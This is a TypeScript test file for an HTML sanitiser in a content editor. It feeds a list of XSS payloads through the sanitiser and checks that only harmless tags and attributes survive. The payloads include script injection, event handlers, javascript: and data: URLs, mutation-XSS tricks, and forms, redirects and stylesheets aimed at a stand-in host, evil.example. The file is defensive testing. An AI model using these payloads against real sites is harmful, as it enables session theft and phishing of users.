import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readingMinutes, sanitised } from './sanitise.ts'

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x" onclick="alert(1)" style="position:fixed">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<<script>script>alert(1)<</script>/script>',
  '<p title="x" class="y" id="z" data-x="1">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<h2 contenteditable autofocus onfocus=alert(1)>x</h2>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
]
const allowed = /^\/?(h2|h3|h4|p|br|hr|strong|em|u|s|blockquote|ul|ol|li|a|code|pre|table|thead|tbody|tr|th|td)$/
const attributeNames = ['href', 'rel', 'target', 'start', 'scope', 'colspan', 'dir', 'lang']
/** Every tag that is left is one the editor writes, with harmless attributes. */
function requireHarmless(html: string) {
  for (const [, name, attributes] of html.matchAll(/<(\/?[a-z0-9]+)((?:[^>"]|"[^"]*")*)>/gi)) {
    expect(name).toMatch(allowed)
    const pairs = [...attributes!.matchAll(/\s([^\s="]+)="([^"]*)"/g)]
    expect(attributes!.replaceAll(/\s[^\s="]+="[^"]*"/g, '').trim()).toMatch(/^\/?$/)
    for (const [, attribute, value] of pairs) {
      expect(attributeNames).toContain(attribute)
      if (attribute === 'href') expect(value).not.toMatch(/^\s*([a-z]+script|data):|^\s*[/\\]{2}/i)
    }
  }
  // Whatever is no tag is escaped.
  expect(html.replaceAll(/<(\/?[a-z0-9]+)((?:[^>"]|"[^"]*")*)>/gi, '')).not.toContain('<')
}

describe('attack: stored HTML in pages and posts', () => {
  it.each(payloads)('%s', payload => requireHarmless(sanitised(payload)))
  it('is clean the first time and the second, whatever is put together', () => {
    const piece = fc.constantFrom(...payloads, '<p>', '</p>', '<', '>', '"', "'", '&lt;script&gt;', '<a href="', 'x')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), pieces => {
        const once = sanitised(pieces.join(''))
        requireHarmless(once)
        requireHarmless(sanitised(once))
      }),
    )
  })
})

describe('what the editor writes', () => {
  it('stays as it is', () => {
    const html =
      '<h2 dir="rtl">عنوان</h2><p>نص <strong>مهم</strong> و<em>مائل</em></p><ul><li>بند</li></ul><blockquote>اقتباس</blockquote>'
    expect(sanitised(html)).toBe(html)
  })
  it('links to others safely, and to our own pages plainly', () => {
    expect(sanitised('<a href="https://example.om">x</a>')).toBe(
      '<a href="https://example.om" rel="noopener noreferrer" target="_blank">x</a>',
    )
    expect(sanitised('<a href="/programmes">x</a><a href="mailto:a@b.om">y</a>')).toBe(
      '<a href="/programmes">x</a><a href="mailto:a@b.om">y</a>',
    )
  })
  it('is read at 180 words a minute, at least one', () => {
    expect(readingMinutes('<p>كلمة</p>')).toBe(1)
    expect(readingMinutes(`<p>${'كلمة '.repeat(540)}</p>`)).toBe(3)
  })
})

it('what is pasted from elsewhere keeps its weight: bold, italic and the largest headings', () => {
  expect(sanitised('<h1>أ</h1><p><b>ب</b> <i>ت</i></p><h6>ث</h6>')).toBe(
    '<h2>أ</h2><p><strong>ب</strong> <em>ت</em></p><h4>ث</h4>',
  )
})
